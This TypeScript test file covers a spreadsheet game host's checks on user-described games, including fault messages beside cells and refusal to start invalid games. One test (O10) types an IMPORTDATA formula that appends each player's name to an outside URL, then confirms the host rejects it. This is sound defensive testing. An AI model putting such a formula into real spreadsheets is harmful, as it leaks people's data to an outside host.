import { READY } from '../../../src/sheets/own-game/ready.ts';
import { FIRST_OWN_GAME_TAB } from '../../../src/sheets/workbook/season.ts';
import { ask, cellsOf, makeSeason, problemOf, requestFor, tryAsk } from '../season.ts';

const TAB = FIRST_OWN_GAME_TAB + 1;
const NAMES = Array.from({ length: 13 }, (_, i) => `Player ${i + 1}`);

function described(game: object) {
  const host = makeSeason(NAMES.map((name) => ({ name, meadow: '' })));
  const book = host.world.activeWorkbook as string;
  ask(host, 'describeGame', JSON.stringify(game));
  const type = (row: number, column: number, text: string) => host.typeCell(book, TAB, row, column, text);
  return { host, type, cell: (row: number, column: number) => cellsOf(host, TAB)[row]?.[column] ?? '' };
}

test('O1 faults stand beside their cells and go once corrected; a host’s own text there stays', () => {
  const { host, type, cell } = described(READY['two-thirds']);
  type(8, 1, '40');
  type(8, 2, 'ask Ann first');
  type(7, 1, '');
  ask(host, 'checkOwnGame', TAB);
  expect([cell(7, 2), cell(8, 2)]).toEqual([
    '◂ Write a title of 1 to 100 characters that no other row of this table has.',
    'ask Ann first',
  ]);
  type(7, 1, 'Thirds');
  expect(ask(host, 'checkOwnGame', TAB).faults).toEqual([
    { address: "'Own game, Two thirds'!B9", text: 'Expected a whole number from 2 to 30, found 40.' },
  ]);
  expect([cell(7, 2), cell(8, 2)]).toEqual(['', 'ask Ann first']);
});

test('O10 a forbidden rule, pasted into the tab, is named beside it, and no match begins', () => {
  const { host, type, cell } = described(READY['two-thirds']);
  const row = cellsOf(host, TAB).findIndex((line) => line[0] === 'Points');
  type(row, 8, '=[Points] + IMPORTDATA("https://example.com/" & [player])');
  const { faults, game } = ask(host, 'checkOwnGame', TAB);
  expect(faults.map(({ text }) => text)).toEqual([
    'Write a formula without IMPORTDATA: rules may compute, compare and look up.',
  ]);
  expect(game).toBeNull();
  expect(cell(row, 9)).toContain('without IMPORTDATA');
  expect(
    problemOf(tryAsk(host, 'newGame', requestFor('own-game', NAMES.slice(0, 3), { tab: TAB }))),
  ).toContain('Two thirds cannot begin.');
});

test.each([{}, { language: 'vi' }, { statusUnsaid: true }] as const)(
  'G20 a described game whose answer is lost is there once (%j)',
  (switches) => {
    const { host } = described(READY['two-thirds']);
    const before = ask(host, 'ownGames').described.length;
    host.world.switches = { ...switches, lostAnswers: true };
    const tab = ask(host, 'describeGame', 'auction-night');
    const { described: tabs } = ask(host, 'ownGames');
    expect(tabs).toHaveLength(before + 1);
    expect(tabs).toContainEqual({ tab, title: 'Own game, Auction night' });
  },
);

test('O1 too few values to deal are named by their column', () => {
  const wolf = READY['the-wolf'];
  const { host } = described({ ...wolf, values: { ...wolf.values, most: '30' } });
  expect(problemOf(tryAsk(host, 'newGame', requestFor('own-game', NAMES, { tab: TAB })))).toBe(
    'The wolf cannot begin. Role: expected at least 13 values, found a list of 12.',
  );
});
